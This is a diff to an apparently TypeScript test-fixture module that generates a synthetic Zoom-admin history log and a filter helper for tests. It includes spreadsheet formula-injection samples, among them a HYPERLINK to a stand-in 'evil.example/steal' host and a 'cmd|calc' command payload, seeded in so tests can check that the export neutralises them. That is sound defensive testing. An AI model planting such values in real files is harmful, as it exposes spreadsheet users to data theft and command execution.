@@ -1,5 +1,10 @@
 import { randomUUID } from 'node:crypto';
-import type { HistoryEntry } from '../../shared/domain/history';
+import {
+  DEFAULT_ACCOUNT,
+  type HistoryEntry,
+  type HistoryEntryInput,
+  type HistoryFilter,
+} from '../../shared/domain/history';
 import type { Outcome } from '../../shared/domain/outcome';
 
 const ANSWERS: Readonly<Record<Outcome, Pick<HistoryEntry, 'httpStatus' | 'zoomCode' | 'message' | 'zoomMessage'>>> = {
@@ -57,4 +62,81 @@ export function historyEntries(
     source: i % 3 === 0 ? 'zpa' : 'app',
     retryAfterSeconds: spec.outcome === 'rate_limited' ? 30 : null,
   }));
+}
+
+const FIRST = ['olivia', 'priya', 'tom', 'aisha', 'marcus', 'jane', 'li', 'sofia', 'mateo', 'noah'];
+const LAST = ['hart', 'patel', 'becker', 'khan', 'reed', 'doe', 'wei', 'rossi', 'garcia', 'smith'];
+const capital = (s: string) => `${s.charAt(0).toUpperCase()}${s.slice(1)}`;
+
+/** Outcomes in the proportions a busy admin's history might have. */
+function outcomeOf(i: number): Outcome {
+  const r = (i * 7919) % 100;
+  if (r < 62) return 'updated';
+  if (r < 77) return 'rejected';
+  if (r < 85) return 'not_found';
+  if (r < 90) return 'rate_limited';
+  if (r < 94) return 'unauthorized';
+  if (r < 97) return 'failed';
+  return 'unknown';
+}
+
+/** Cells a spreadsheet would run as formulas: the export must neutralise them. */
+export const FORMULAS = {
+  reason: '=HYPERLINK("http://evil.example/steal","Open ticket")',
+  userName: '+SUM(1,2)',
+  zoomMessage: '-2+3 cmd|calc',
+  message: '@SUM(A1:A9) is not a message',
+} as const;
+
+/**
+ * A long, varied history for the review screen, oldest first, spread evenly over `spanDays` days up to
+ * `end`: 100 people (most with a known name), three accounts (most entries with none: "Default"), every
+ * outcome, ticket numbers as reasons on a quarter of the entries, and a few entries whose texts would be
+ * formulas in a spreadsheet. Deterministic, so tests can count what each filter must find.
+ */
+export function reviewHistory(count: number, end: number, spanDays = 400): HistoryEntryInput[] {
+  const step = Math.floor((spanDays * 86_400_000) / count);
+  return Array.from({ length: count }, (_, i) => {
+    const first = FIRST[i % FIRST.length] ?? 'ana';
+    const last = LAST[Math.floor(i / FIRST.length) % LAST.length] ?? 'lee';
+    const outcome = outcomeOf(i);
+    const formula = i === count - 5 || i === Math.floor(count / 2);
+    return {
+      id: `rev-${String(i).padStart(6, '0')}`,
+      at: new Date(end - (count - 1 - i) * step).toISOString(),
+      user: `${first}.${last}@northwind.example`,
+      outcome,
+      ...ANSWERS[outcome],
+      ...(formula ? { message: FORMULAS.message, zoomMessage: FORMULAS.zoomMessage } : {}),
+      trackingId:
+        outcome === 'unknown' ? null : `v=2.0;clid=us06;rid=${(i * 2654435761).toString(16).slice(-10).toUpperCase()}`,
+      durationMs: 120 + ((i * 37) % 900),
+      apiBase: 'https://api.zoom.us/v2',
+      source: i % 3 === 0 ? 'zpa' : 'app',
+      retryAfterSeconds: outcome === 'rate_limited' ? 30 : null,
+      ...(i % 10 === 0 ? { account: 'emea' } : i % 25 === 1 ? { account: 'apac' } : {}),
+      ...(formula
+        ? { userName: FORMULAS.userName }
+        : i % 5 < 3
+          ? { userName: `${capital(first)} ${capital(last)}` }
+          : {}),
+      ...(formula ? { reason: FORMULAS.reason } : i % 4 === 0 ? { reason: `INC-${10_000 + (i % 9000)}` } : {}),
+    } satisfies HistoryEntryInput;
+  });
+}
+
+/** What the store's filter keeps, restated independently so a test can count the expected matches. */
+export function matchesFilter(e: HistoryEntryInput, f: HistoryFilter): boolean {
+  const has = (value: string | number | null | undefined, needle: string) =>
+    value !== null && value !== undefined && String(value).toLowerCase().includes(needle.toLowerCase());
+  if (f.user !== undefined && !has(e.user, f.user)) return false;
+  if (f.outcome !== undefined && e.outcome !== f.outcome) return false;
+  if (f.account !== undefined && (e.account ?? DEFAULT_ACCOUNT).toLowerCase() !== f.account.toLowerCase()) return false;
+  if (f.since !== undefined && Date.parse(e.at) < Date.parse(f.since)) return false;
+  if (f.until !== undefined && Date.parse(e.at) >= Date.parse(f.until)) return false;
+  if (f.search !== undefined) {
+    const fields = [e.user, e.userName, e.message, e.zoomMessage, e.trackingId, e.zoomCode, e.reason];
+    if (!fields.some((value) => has(value, f.search as string))) return false;
+  }
+  return true;
 }
